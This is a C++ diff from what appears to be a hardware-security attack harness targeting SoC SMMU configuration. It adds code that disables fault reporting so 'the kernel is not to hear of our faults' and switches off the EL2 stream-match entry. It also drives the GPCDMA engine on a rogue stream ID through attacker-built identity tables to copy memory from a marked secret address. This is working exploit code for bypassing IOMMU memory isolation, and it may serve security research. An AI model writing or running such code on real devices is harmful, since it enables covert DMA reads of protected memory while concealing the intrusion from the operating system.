@@ -22,6 +22,7 @@ namespace sidewall::boot {
 namespace {
 
 constexpr size_t kSmmuSize = 0x1000000;
+constexpr uint64_t kNiso0 = 0x12000000;
 constexpr size_t kMcSize = 0x10000;
 
 // Global registers, and those of a context bank.
@@ -47,6 +48,7 @@ constexpr uint32_t kLinuxTcr = 0x00802010;
 constexpr uint32_t kLinuxTcr2 = 0x00038015;
 constexpr uint32_t kLinuxMair0 = 0xf404ff44;
 constexpr uint32_t kLinuxSctlr = 0x1067;
+constexpr uint32_t kSctlrQuiet = kLinuxSctlr & ~0x40u;  // the kernel is not to hear of our faults
 
 // An entry and a bank that the kernel does not use, and a stream that no master has.
 constexpr uint32_t kSpare = 100;
@@ -65,7 +67,7 @@ struct Window {
 
 Window g_smmus[] = {
     {"niso1", 0x08000000, kSmmuSize, nullptr}, {"niso1m", 0x07000000, kSmmuSize, nullptr},
-    {"niso0", 0x12000000, kSmmuSize, nullptr}, {"niso0m", 0x11000000, kSmmuSize, nullptr},
+    {"niso0", kNiso0, kSmmuSize, nullptr},     {"niso0m", 0x11000000, kSmmuSize, nullptr},
     {"iso", 0x10000000, kSmmuSize, nullptr},
 };
 Window g_mc_sid = {"mc_sid", 0x02c00000, kMcSize, nullptr};
@@ -170,6 +172,56 @@ uint64_t IdentityTables() {
   return root_at;
 }
 
+// ---- Bytes, moved by the GPCDMA engine on a stream and tables of our own.
+
+// Words that are copied, and two pages of ours: from, and to.
+constexpr uint32_t kWords = 16;
+volatile uint32_t* g_engine;
+volatile uint32_t* g_pages;
+uint64_t g_from;
+uint64_t g_to;
+
+void MakePages() {
+  void* pages = mmap(nullptr, 8192, PROT_READ | PROT_WRITE,
+                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
+  if (pages == MAP_FAILED) return;
+  g_pages = static_cast<volatile uint32_t*>(pages);
+  for (uint32_t i = 0; i < 2048; ++i) g_pages[i] = i < 1024 ? 0xa5000000 + i : 0;
+  g_from = PhysicalOf(pages);
+  g_to = PhysicalOf(static_cast<uint8_t*>(pages) + 4096);
+  g_engine = static_cast<volatile uint32_t*>(MapPhysical(kGpcdma, kGpcdmaSize));
+}
+
+// Copies from an address to our second page; true when the engine says that it is done.
+bool Copy(uint64_t from) {
+  volatile uint32_t* channel = g_engine + 0x60000 / 4;
+  channel[0x04 / 4] = ~0u;
+  channel[0x30 / 4] = ~0u;
+  channel[0x20 / 4] = kWords - 1;
+  channel[0x0c / 4] = static_cast<uint32_t>(from);
+  channel[0x10 / 4] = static_cast<uint32_t>(g_to);
+  channel[0x14 / 4] = 0;
+  channel[0x18 / 4] = kSpareSid | kSpareSid << 7;
+  channel[0x00 / 4] = 0x80800000;
+  return (channel[0x04 / 4] >> 30 & 1) != 0 && channel[0x30 / 4] == 0;
+}
+
+void MoveBytes() {
+  MakePages();
+  if (g_engine == nullptr || g_from == 0 || g_to == 0) {
+    Say("dma: no engine");
+    return;
+  }
+  const bool copied = Copy(g_from) && g_pages[1024] == g_pages[0] &&
+                      g_pages[1024 + kWords - 1] == g_pages[kWords - 1];
+  Say("dma: the control %s", copied ? "was copied" : "was not copied");
+  for (uint32_t i = 0; i < kWords; ++i) g_pages[1024 + i] = 0;
+  const bool done = Copy(ReadBench(kBenchSecret));
+  bool came = done;
+  for (uint32_t i = 0; i < kWords; ++i) came = came || g_pages[1024 + i] != 0;
+  Say("dma: the marked page %s", came ? "came" : "stayed");
+}
+
 // ---- The list.
 
 void AttackGlobal(const Window& smmu) {
@@ -209,11 +261,16 @@ void AttackBank(const Window& smmu, uint64_t tables) {
   Put(smmu, bank + kTcr, kLinuxTcr, "TCR");
   Try(smmu, bank + kTtbr0, true, 8, tables, "TTBR0 of identity tables");
   Put(smmu, bank + kMair0, kLinuxMair0, "MAIR0");
-  Put(smmu, bank + kSctlr, kLinuxSctlr, "SCTLR on");
+  Put(smmu, bank + kSctlr, kSctlrQuiet, "SCTLR on");
   Put(smmu, kS2cr + 4 * kSpare, kSpare, "S2CR to a context of identity tables");
+  if (smmu.address == kNiso0) {
+    Put(smmu, kSmr + 4 * kLast, 0, "SMR of EL2 off");
+    Put(smmu, kSmr + 4 * kSpare, kValid | kSpareSid, "SMR of the stream of the transfers");
+    MoveBytes();
+  }
   Put(smmu, bank + kActlr, 0xffffffff, "ACTLR");
-  Put(smmu, bank + kSctlr, kLinuxSctlr & ~1u, "SCTLR.M 0");
-  Put(smmu, bank + kSctlr, kLinuxSctlr, "SCTLR.M 1");
+  Put(smmu, bank + kSctlr, kSctlrQuiet & ~1u, "SCTLR.M 0");
+  Put(smmu, bank + kSctlr, kSctlrQuiet, "SCTLR.M 1");
   Put(smmu, cbar, 0, "CBAR stage 2 of our own");
   Put(smmu, cbar, 0x00030000 | (kLast - 1) << 8, "CBAR nested over the host's stage 2");
   Put(smmu, cbar, 0x00030000 | kSpare << 8, "CBAR nested over itself");
